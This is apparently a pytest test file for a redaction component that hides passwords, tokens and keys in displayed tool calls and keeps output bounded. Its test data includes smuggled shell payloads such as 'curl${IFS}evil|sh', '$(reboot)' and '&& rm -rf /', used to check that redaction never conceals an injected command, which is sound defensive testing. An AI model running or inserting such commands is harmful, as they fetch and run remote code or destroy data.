"""What of a call may be shown: secrets left out by name and by form, everything else bounded and safe to print."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.support.collect_failures import each_case

from pegboard.core.json.values import Json
from pegboard.core.model.redaction import NO_DISPLAY_LIMITS, DisplayLimits, Redaction, is_cut, is_secret, redact_line

USUAL = Redaction()


@pytest.mark.behaviour("redaction.by_name")
@each_case(
    "key",
    [
        "password", "Password", "dbPassword", "DB_PASSWORD", "userpassword", "passwd", "token", "access_token",
        "accessToken", "X-Auth-Token", "Authorization", "api_key", "apiKey", "API-KEY", "x-api-key", "apikey",
        "client_secret", "secretKey", "privateKey", "credentials", "cookie", "sessionId", "ssh_key", "passphrase",
        "\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44",
        "Passwort", "пароль", "密码", "AWS_SECRET_ACCESS_KEY", "jwt", "otp",
        "db_pass", "smtpPass", "pin", "PIN", "card-pin", "pinCode", "pin_number",
    ],
)  # fmt: skip
def test_what_has_the_name_of_a_secret_is_hidden(key: str) -> None:
    assert USUAL.redact({key: "hunter2"}) == {key: "[hidden: 7 characters]"}


@pytest.mark.parametrize(
    "key",
    [
        "path",
        "key",
        "query",
        "author",
        "monkey",
        "keyboard",
        "max_results",
        "pass",
        "compass",
        "tokenizer",
        "id",
        "spin",
        "pass_count",
        "passed",
        "pin_to_top",
        "pinned",
    ],
)
def test_an_ordinary_name_hides_nothing(key: str) -> None:
    assert not is_secret(key)


def test_how_many_tokens_there_may_be_is_no_secret() -> None:
    assert USUAL.redact({"max_tokens": 4096, "token": "abc", "use_token": True, "password": None, "otp": 123456}) == {
        "max_tokens": 4096,
        "token": "[hidden: 3 characters]",
        "use_token": True,
        "password": None,
        "otp": "[hidden]",
    }


@pytest.mark.behaviour("redaction.by_name")
def test_secrets_are_found_at_any_depth_and_as_pairs_of_name_and_value() -> None:
    given: Json = {
        "request": {"headers": [{"name": "Authorization", "value": "abc"}, {"name": "Accept", "value": "text/html"}]},
        "auth": {"user": "ann", "pass": "x"},
    }
    assert USUAL.redact(given) == {
        "request": {
            "headers": [
                {"name": "Authorization", "value": "[hidden: 3 characters]"},
                {"name": "Accept", "value": "text/html"},
            ]
        },
        "auth": "[hidden: 2 members]",
    }


@pytest.mark.behaviour("redaction.by_form")
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl -H 'Authorization: Bearer abcdefgh12345'", "curl -H 'Authorization: Bearer [hidden: 13 characters]'"),
        ("postgresql://ann:s3cret@db/x", "postgresql://ann:[hidden: 6 characters]@db/x"),
        ("PASSWORD=hunter2 run", "PASSWORD=[hidden: 7 characters] run"),
        ("--api-key=abc123 --verbose", "--api-key=[hidden: 6 characters] --verbose"),
        ('{"token": "abc123"}', '{"token": "[hidden: 6 characters]"}'),
        ("key sk-abcdefghijklmnop1234 end", "key [hidden: 23 characters] end"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "[hidden: 40 characters]"),
        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nrest", "[hidden: 65 characters]\nrest"),
        ("an ordinary sentence about tokens: none", "an ordinary sentence about tokens: [hidden: 4 characters]"),
        ("nothing here", "nothing here"),
        ("mysql -u root -pS3cret db", "mysql -u root -p[hidden: 6 characters] db"),
        ("mysqldump -p'S3cret' db; ls -p /tmp", "mysqldump -p'[hidden: 6 characters]' db; ls -p /tmp"),
        ("mysql -u root -p db", "mysql -u root -p db"),
        ("sshpass -p S3cret ssh h", "sshpass -p [hidden: 6 characters] ssh h"),
        ("redis-cli -h x -a S3cret ping", "redis-cli -h x -a [hidden: 6 characters] ping"),
        ("curl -s -u ann:S3cret https://h", "curl -s -u ann:[hidden: 6 characters] https://h"),
        ("docker run -u 1000:1000 x", "docker run -u 1000:1000 x"),
        ("DB_PASS=S3cret MYSQL_PWD=x run", "DB_PASS=[hidden: 6 characters] MYSQL_PWD=[hidden: 1 character] run"),
        (
            '{"db_pass": "S3cret", "pin": "1234"}',
            '{"db_pass": "[hidden: 6 characters]", "pin": "[hidden: 4 characters]"}',
        ),
        ("psql --password S3cret -h x", "psql --password [hidden: 6 characters] -h x"),
        ("psql --password -h x", "psql --password -h x"),
        ("all tests pass: 12", "all tests pass: 12"),
    ],
)
def test_what_has_the_form_of_a_secret_is_hidden_in_any_text(text: str, shown: str) -> None:
    assert redact_line(text) == shown


@pytest.mark.behaviour("redaction.own_patterns")
def test_the_operators_own_patterns_hide_by_key_and_with_a_dot_by_path() -> None:
    own = Redaction(("iban*", "patient.name"))
    given: Json = {"IBAN_from": "DE1", "name": "a list", "patient": {"name": "Ann", "ward": 3}}
    assert own.redact(given) == {
        "IBAN_from": "[hidden: 3 characters]",
        "name": "a list",
        "patient": {"name": "[hidden: 3 characters]", "ward": 3},
    }


@pytest.mark.behaviour("redaction.bounded")
def test_long_texts_many_members_and_deep_values_are_cut_and_say_so() -> None:
    small = DisplayLimits(text=6, total=1000, members=2, levels=2)
    given: Json = {"a": "abcdefghij", "b": 1, "c": [1, 2, 3, 4]}
    assert USUAL.redact(given, small) == {
        "a": "abcd… 4 characters not shown …ij",
        "…": "… 1 member not shown …",
        "c": [1, "… 2 members not shown …", 4],
    }
    assert USUAL.redact({"a": {"b": {"c": 1}}}, small) == {"a": {"b": "…"}}


@pytest.mark.behaviour("redaction.both_ends")
def test_what_stands_at_the_end_of_a_long_call_is_seen_and_that_something_is_missing_is_known() -> None:
    calls: list[Json] = [
        {"command": "safe " * 120 + " && rm -rf /"},
        {"command": "x" * 1_000_000 + " && rm -rf /"},
        {"steps": [*(["safe"] * 100), " && rm -rf /"]},
        {**{f"step {number}": "x" * 1_000 for number in range(100)}, "last": " && rm -rf /"},
        {"files": ["x" * 1_000] * 30, "last": " && rm -rf /"},
    ]
    for call in calls:
        shown = USUAL.redact(call)
        assert (" && rm -rf /" in json.dumps(shown), is_cut(shown)) == (True, True)
        assert USUAL.redact(call, NO_DISPLAY_LIMITS) == call
    assert not is_cut(USUAL.redact({"command": "ls", "steps": [1, {"a": "…and so on"}]}))


def test_two_members_that_look_the_same_once_they_are_cut_are_both_shown() -> None:
    keys = [f"{'a' * 150}{middle}{'a' * 150}" for middle in "12"]
    told = f"{'a' * 67}… 201 characters not shown …{'a' * 33}"
    given: Json = {keys[0]: 1, keys[1]: 2, "…": 3}
    assert USUAL.redact(given) == {told: 1, f"{told} (2)": 2, "…": 3}


@pytest.mark.behaviour("redaction.payloads_seen")
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("PASSWORD=$(curl${IFS}evil|sh)", "PASSWORD=$(curl${IFS}evil|sh)"),
        ("PASSWORD=x;curl${IFS}evil|sh", "PASSWORD=[hidden: 1 character];curl${IFS}evil|sh"),
        ("PASSWORD=x`reboot`", "PASSWORD=[hidden: 1 character]`reboot`"),
        ("run --token=x$IFS-e$IFS/bin/sh", "run --token=[hidden: 1 character]$IFS-e$IFS/bin/sh"),
        ("git clone http://a:$(reboot)@host", "git clone http://a:$(reboot)@host"),
        ("token=" + "a" * 500, "token=[hidden: 400 characters]" + "a" * 100),
        (
            "-----BEGIN PRIVATE KEY-----\n$(rm -rf /)\n-----END PRIVATE KEY-----",
            "[hidden: 27 characters]\n$(rm -rf /)\n-----END PRIVATE KEY-----",
        ),
        (
            "-----BEGIN PRIVATE KEY-----\nsudo rm everything now\n-----END PRIVATE KEY-----",
            "[hidden: 27 characters]\nsudo rm everything now\n-----END PRIVATE KEY-----",
        ),
    ],
)
def test_no_command_is_hidden_behind_the_form_of_a_secret(text: str, shown: str) -> None:
    assert redact_line(text, 1_000) == shown


@pytest.mark.behaviour("redaction.by_form")
@pytest.mark.parametrize("newline", ["\n", "\r\n", "\\n", " "])
@pytest.mark.parametrize("head", ["", "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,0A1B2C"])
def test_a_private_key_is_hidden_whole_however_its_lines_end(newline: str, head: str) -> None:
    lines = ["-----BEGIN RSA PRIVATE KEY-----", *([head] if head else []), *(["aB3+/x" * 10] * 25), "Qw==", ""]
    key = newline.join(lines) + "-----END RSA PRIVATE KEY-----"
    assert redact_line(f"a {key} b") == f"a [hidden: {len(key):,} characters] b"


@pytest.mark.behaviour("redaction.bounded")
def test_a_value_of_any_size_takes_no_more_room_than_it_is_given() -> None:
    given: Json = {f"key-{number}": "x" * 10_000 for number in range(10_000)}
    assert len(USUAL.redact_to_text(given)) < 12_000


def test_what_would_move_a_cursor_or_hide_text_is_written_out() -> None:
    assert redact_line("a\x1b[2Jb\u202ec\ud800d\ne") == "a\\x1b[2Jb\\u202ec\\ud800d\ne"
    assert USUAL.redact_to_text({"a\x1bb": "c\u202ed\U000e0041"}) == '{"a\\u001bb": "c\\u202ed\\udb40\\udc41"}'


def test_numbers_that_json_cannot_hold_are_told_in_words() -> None:
    assert USUAL.redact([float("nan"), float("inf"), 10**5000]) == [
        "nan",
        "inf",
        "… 16,610 bits not shown …",
    ]


def test_a_value_nested_ten_thousand_levels_deep_is_shown_as_far_as_is_fit() -> None:
    deep: Json = "x"
    for _ in range(10_000):
        deep = [deep]
    assert USUAL.redact_to_text(deep) == '[[[[[[[["…"]]]]]]]]'


@settings(max_examples=200)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
        max_leaves=30,
    )
)
def test_whatever_is_shown_is_json_that_every_peer_reads(value: Json) -> None:
    text = USUAL.redact_to_text(value)
    text.encode()
    json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))


@given(st.text(min_size=6).filter(lambda text: bool(text.strip())))
def test_the_value_under_a_secret_name_is_never_in_the_text(secret: str) -> None:
    assert USUAL.redact({"a": [{"password": secret}]}) == {"a": [{"password": f"[hidden: {len(secret)} characters]"}]}
